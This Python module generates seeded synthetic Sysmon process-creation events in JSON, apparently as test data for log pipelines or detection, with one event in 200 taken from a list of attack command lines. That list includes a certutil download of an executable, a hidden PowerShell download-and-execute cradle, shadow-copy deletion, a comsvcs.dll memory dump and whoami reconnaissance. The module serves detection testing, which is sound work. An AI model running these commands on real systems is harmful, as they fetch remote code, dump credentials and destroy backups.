"""Events of Sysmon about processes on Windows: the same for the same seed, no two alike, one in 200 an attack."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random

import orjson

ATTACKS_EVERY = 200
"""Events of which one is an attack."""

_START_S = 1_717_200_000

_PROGRAMS: tuple[tuple[str, str, str, str], ...] = (
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        "Google Chrome",
        "Google LLC",
        "--type=renderer --field-trial-handle={n},{h} --lang=en-US --renderer-client-id={n} --launch-time-ticks={n}",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        "Host Process for Windows Services",
        "Microsoft Corporation",
        "-k netsvcs -p -s Schedule{n}",
    ),
    (
        r"C:\Windows\System32\backgroundTaskHost.exe",
        "Background Task Host",
        "Microsoft Corporation",
        "-ServerName:App.AppX{h}.mca",
    ),
    (
        r"C:\Windows\System32\conhost.exe",
        "Console Window Host",
        "Microsoft Corporation",
        r"\??\C:\Windows\system32\conhost.exe 0x{h} -ForceV1",
    ),
    (
        r"C:\Program Files\Git\cmd\git.exe",
        "Git for Windows",
        "The Git Development Community",
        "-c core.quotepath=false -c diff.mnemonicprefix=false fetch --no-tags origin feature/{w}-{n}",
    ),
    (
        r"C:\Program Files\dotnet\dotnet.exe",
        ".NET Host",
        "Microsoft Corporation",
        r"build C:\src\{w}\{w}.sln -c Release -p:Version=1.{n} --no-restore -o C:\build\{h}",
    ),
    (
        r"C:\Windows\System32\taskhostw.exe",
        "Host Process for Windows Tasks",
        "Microsoft Corporation",
        "-RegisterDevice -ProtectionStateChanged -FreeNetworkOnly {n}",
    ),
    (
        r"C:\Program Files\Python311\python.exe",
        "Python",
        "Python Software Foundation",
        r"C:\jobs\{w}\export.py --tenant {n} --output D:\exports\{h}.csv --since 2024-05-{d}",
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        "Microsoft Excel",
        "Microsoft Corporation",
        r'/dde "C:\Users\{u}\Documents\{w} {n}.xlsx"',
    ),
    (
        r"C:\Windows\System32\SearchProtocolHost.exe",
        "Microsoft Windows Search Protocol Host",
        "Microsoft Corporation",
        r'Global\UsGthrFltPipeMssGthrPipe_S-1-5-21-{n}-{n}_{h} 1 -2147483646 "Software\Microsoft\Search"',
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "Windows PowerShell",
        "Microsoft Corporation",
        r"-NoProfile -File C:\ops\{w}\collect.ps1 -Host srv{n} -Report \\files\ops\{h}.json",
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        "Windows Command Processor",
        "Microsoft Corporation",
        r'/c "C:\tools\{w}\rotate.bat {n} {h}"',
    ),
)
_ATTACKS = (
    (r"C:\Windows\System32\whoami.exe", "whoami - displays logged on user information", "/all /fo csv {h}"),
    (r"C:\Windows\System32\certutil.exe", "CertUtil.exe", "-urlcache -split -f http://203.0.113.{d}/{h}.exe {w}.exe"),
    (
        r"C:\Windows\System32\vssadmin.exe",
        "Command Line Interface for Microsoft Volume Shadow Copy Service",
        "delete shadows /all /quiet /{h}",
    ),
    (
        r"C:\Windows\System32\rundll32.exe",
        "Windows host process (Rundll32)",
        r"C:\Windows\System32\comsvcs.dll, MiniDump {n} C:\Temp\{h}.dmp full",
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "Windows PowerShell",
        "-nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.{d}/{h}')",
    ),
)
_PARENTS = (
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\services.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Windows\System32\svchost.exe",
    r"C:\Program Files\Jenkins\jre\bin\java.exe",
)
_WORDS = ("billing", "orders", "ledger", "catalog", "shipping", "intake", "archive", "portal", "metrics", "payroll")
_USERS = ("amelia", "bjorn", "chidi", "dalia", "emre", "farah", "goran", "hanna", "ines", "jonas", "kaya", "liam")


def sysmon_events(count: int, seed: int = 1) -> Iterator[bytes]:
    """JSON texts of about 1.5 KB, as flat as shippers write them."""
    random = Random(seed)
    for number in range(count):
        yield orjson.dumps(_event(number, random))


def _event(number: int, random: Random) -> dict[str, str | int | None]:
    user = random.choice(_USERS)
    if number % ATTACKS_EVERY == ATTACKS_EVERY // 2:
        image, product, arguments = random.choice(_ATTACKS)
        company = "Microsoft Corporation"
    else:
        image, product, company, arguments = random.choice(_PROGRAMS)
    parent = random.choice(_PARENTS)
    name = image.rpartition("\\")[2]
    host = f"{random.choice(_WORDS)}-ws{random.randrange(5000):04}"
    time = f"2024-06-01 {number // 3600 % 24:02}:{number // 60 % 60:02}:{number % 60:02}.{random.randrange(1000):03}"
    return {
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "Provider_Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
        "EventID": 1,
        "Version": 5,
        "Level": 4,
        "Task": 1,
        "Opcode": 0,
        "Keywords": "0x8000000000000000",
        "TimeCreated_SystemTime": time.replace(" ", "T") + "Z",
        "EventRecordID": 10_000_000 + number,
        "Correlation": None,
        "Execution_ProcessID": random.randrange(1000, 9000),
        "Execution_ThreadID": random.randrange(1000, 9000),
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": f"{host}.corp.example",
        "Security_UserID": "S-1-5-18",
        "RuleName": "-",
        "UtcTime": time,
        "ProcessGuid": _guid(random),
        "ProcessId": random.randrange(1000, 60000),
        "Image": image,
        "FileVersion": f"10.0.{random.randrange(30000)}.{random.randrange(5000)} (WinBuild.160101.0800)",
        "Description": product,
        "Product": "Microsoft® Windows® Operating System" if company.startswith("Microsoft") else product,
        "Company": company,
        "OriginalFileName": name,
        "CommandLine": f'"{image}" {_fill(arguments, user, random)}',
        "CurrentDirectory": f"C:\\Users\\{user}\\work\\{random.getrandbits(32):08x}\\",
        "User": f"CORP\\{user}",
        "LogonGuid": _guid(random),
        "LogonId": f"0x{random.getrandbits(28):x}",
        "TerminalSessionId": 1,
        "IntegrityLevel": "Medium",
        "Hashes": f"MD5={random.getrandbits(128):032X},SHA256={random.getrandbits(256):064X},"
        f"IMPHASH={random.getrandbits(128):032X}",
        "ParentProcessGuid": _guid(random),
        "ParentProcessId": random.randrange(1000, 60000),
        "ParentImage": parent,
        "ParentCommandLine": f'"{parent}" --session {random.getrandbits(64):016x} --started {_START_S + number}',
        "ParentUser": f"CORP\\{user}",
    }


def _fill(template: str, user: str, random: Random) -> str:
    for mark in "nhwdu":
        while f"{{{mark}}}" in template:
            value = {
                "n": str(random.randrange(10**6)),
                "h": f"{random.getrandbits(64):016x}",
                "w": random.choice(_WORDS),
                "d": f"{random.randrange(1, 29):02}",
                "u": user,
            }[mark]
            template = template.replace(f"{{{mark}}}", value, 1)
    return template


def _guid(random: Random) -> str:
    text = f"{random.getrandbits(128):032X}"
    return "-".join((text[:8], text[8:12], text[12:16], text[16:20], text[20:]))
